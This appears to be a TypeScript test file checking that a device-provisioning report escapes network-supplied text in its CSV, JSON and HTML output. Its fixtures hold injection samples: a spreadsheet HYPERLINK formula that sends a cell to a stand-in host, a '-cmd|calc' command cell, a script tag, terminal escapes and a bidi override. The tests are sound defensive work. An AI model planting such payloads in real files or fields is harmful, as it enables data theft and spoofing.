/** Report rows and their CSV, JSON and HTML forms: escaping of wire text, spreadsheet neutralising, RFC 4180 quoting. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DeviceBook } from '../../../src/devices/book.js';
import { csvField, formatReportCsv, neutralizeCell, quoteCsv } from '../../../src/devices/report-csv.js';
import { formatReportHtml } from '../../../src/devices/report-html.js';
import { formatStatusCounts } from '../../../src/devices/status-reason.js';
import { formatReportJson } from '../../../src/devices/report-json.js';
import { summarizeDevices } from '../../../src/devices/summary.js';
import { escapeControl, escapeHtml } from '../../../src/devices/text-escape.js';
import { formatEventLine } from '../../../src/devices/timeline-text.js';
import { ack, at, dhcp, file, MAC, obs } from './fixtures.js';

const EVIL_VENDOR = '=HYPERLINK("http://x/?"&A1,"click")';
const EVIL_HOST = '<script>alert(1)</script>\u001b[31m\u202e';

function bench(): DeviceBook {
  const book = new DeviceBook({ expectationsFor: () => ({ expectedFiles: ['SEP{MAC}.cnf.xml'], normalMisses: [] }) });
  book.apply(obs(dhcp('discover', at(0)), MAC, { vendorClass: 'Cisco Systems, Inc. IP Phone CP-8841', model: 'CP-8841', inventoryKey: 'row-2', profileId: 'cisco-phone' }));
  book.apply(obs(ack(at(1))));
  book.apply(obs(file('SEP001BD4AABBCC.cnf.xml', at(2), 'delivered', 'template')));
  book.apply(obs(dhcp('discover', at(3)), '02:00:00:00:00:01', { vendorClass: EVIL_VENDOR, hostname: EVIL_HOST }));
  book.apply(obs(file('-cmd|calc', at(4), 'not-found'), '020000000001'));
  return book;
}

const ESCAPE_CASES: readonly [string, string, string][] = [
  ['ESC of a terminal colour sequence', '\u001b[31m', '\\x1b[31m'],
  ['NUL and newline', 'a\u0000b\nc', 'a\\x00b\\x0ac'],
  ['DEL and a C1 control', '\u007f\u0085', '\\x7f\\x85'],
  ['bidi override (reads a name backwards)', 'gpj.\u202eexe', 'gpj.\\u{202e}exe'],
  ['a backslash stays unambiguous', 'a\\x1b', 'a\\\\x1b'],
  ['ordinary accents and emoji are kept', 'Café ☎ 📞', 'Café ☎ 📞'],
];
for (const [edge, input, expected] of ESCAPE_CASES) {
  test(`escapeControl: ${edge}`, () => assert.equal(escapeControl(input), expected));
}

const CSV_CASES: readonly [string, string, string][] = [
  ['= formula neutralised', '=1+1', "'=1+1"],
  ['+ neutralised', '+33 1', "'+33 1"],
  ['- neutralised', '-cmd|calc', "'-cmd|calc"],
  ['@ neutralised', '@SUM(A1)', "'@SUM(A1)"],
  ['a plain cell untouched', 'CP-8841', 'CP-8841'],
  ['comma quoted (RFC 4180)', 'a,b', '"a,b"'],
  ['quotes doubled inside quotes', 'say "hi"', '"say ""hi"""'],
  ['neutralised and quoted together', '=A1,"x"', `"'=A1,""x"""`],
  ['newline from the wire escaped, not a row break', 'a\nb', 'a\\x0ab'],
];
for (const [edge, input, expected] of CSV_CASES) {
  test(`csv cell: ${edge}`, () => assert.equal(csvField(input), expected));
}

test('csv: quoteCsv and neutralizeCell are separate steps', () => {
  assert.equal(quoteCsv('a\r\nb'), '"a\r\nb"');
  assert.equal(neutralizeCell('x=1'), 'x=1');
});

test('report rows: one per device, sorted by MAC, with files, status and times', () => {
  const rows = summarizeDevices(bench().view(at(10)));
  assert.deepEqual(rows.map((r) => r.mac), ['00:1b:d4:aa:bb:cc', '02:00:00:00:00:01']);
  const phone = rows[0];
  assert.equal(phone?.status, 'provisioned');
  assert.equal(phone?.ip, '10.0.0.10');
  assert.equal(phone?.profile, 'cisco-phone');
  assert.deepEqual(phone?.files, [{ name: 'SEP001BD4AABBCC.cnf.xml', result: 'delivered' }]);
  assert.equal(rows[1]?.status, 'stuck');
  assert.equal(rows[1]?.diagnosis, 'asked for -cmd|calc: not found');
});

test('report csv: header, CRLF rows, every hostile cell neutralised and escaped', () => {
  const csv = formatReportCsv(summarizeDevices(bench().view(at(10))));
  const lines = csv.split('\r\n');
  assert.equal(lines.length, 4);
  assert.equal(lines[3], '');
  assert.match(lines[0] ?? '', /^MAC,Hostname,Vendor class,Model,IP,Profile,Inventory row,Files,Status,Diagnosis,First seen \(UTC\),Last seen \(UTC\)$/);
  const evil = lines[2] ?? '';
  assert.ok(evil.includes(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`), evil);
  assert.ok(evil.includes("'-cmd|calc (not-found)"), evil);
  assert.ok(!evil.includes('\u001b') && !evil.includes('\u202e'));
  assert.ok(evil.includes('\\x1b[31m\\u{202e}'));
  assert.ok(lines[1]?.includes('2023-11-14T22:13:20.000Z'));
});

test('report json: parses back to the same rows; C1 and bidi characters written as \\u escapes', () => {
  const rows = summarizeDevices(bench().view(at(10)));
  const text = formatReportJson(rows, at(10));
  assert.ok(!text.includes('\u202e') && text.includes('\\u202e'));
  const parsed = JSON.parse(text) as { generatedAt: string; devices: { hostname?: string; firstSeen: string }[] };
  assert.equal(parsed.devices[1]?.hostname, EVIL_HOST);
  assert.equal(parsed.generatedAt, new Date(at(10)).toISOString());
  assert.equal(parsed.devices[0]?.firstSeen, new Date(at(0)).toISOString());
});

test('report html: self-contained (no script, no external URL), every wire text escaped', () => {
  const html = formatReportHtml(summarizeDevices(bench().view(at(10))), at(10), 'Bench <3>');
  assert.ok(!/<script/i.test(html));
  assert.ok(!/(src|href)=/i.test(html));
  assert.ok(!/https?:\/\/(?!x\/)/.test(html));
  assert.ok(html.includes('&#60;script&#62;alert(1)&#60;/script&#62;\\x1b[31m\\u{202e}'));
  assert.ok(html.includes('<title>Bench &#60;3&#62;</title>'));
  assert.ok(html.includes("default-src 'none'"));
  assert.ok(html.includes('2 devices: 1 provisioned, 1 stuck'));
  assert.ok(!html.includes('\u001b'));
});

test('status counts line and escapeHtml edge cases', () => {
  assert.equal(formatStatusCounts([]), '0 devices');
  assert.equal(escapeHtml(`&<>"'`), '&#38;&#60;&#62;&#34;&#39;');
});

test('timeline lines: DHCP boot fields, file outcome with detail, syslog escaped', () => {
  assert.equal(
    formatEventLine(dhcp('ack', at(1), { ip: '10.0.0.10', leaseSeconds: 3600, boot: { siaddr: '10.0.0.1', file: 'boot.bin', option150: ['10.0.0.1'] } })),
    '22:13:21.000 ACK 10.0.0.10 lease 3600 s siaddr 10.0.0.1 file boot.bin 150 10.0.0.1',
  );
  assert.equal(
    formatEventLine(file('SEP1.cnf.xml', at(2), 'render-error', 'template', 'missing device.ext')),
    '22:13:22.000 SEP1.cnf.xml render-error: missing device.ext (tftp template, 0 B, 40 ms, 0 retx, queued 0 ms)',
  );
  assert.equal(formatEventLine({ kind: 'syslog', atMs: at(3), facility: 16, severity: 3, text: 'bad\u001b[2J' }), '22:13:23.000 syslog <16.3> bad\\x1b[2J');
});
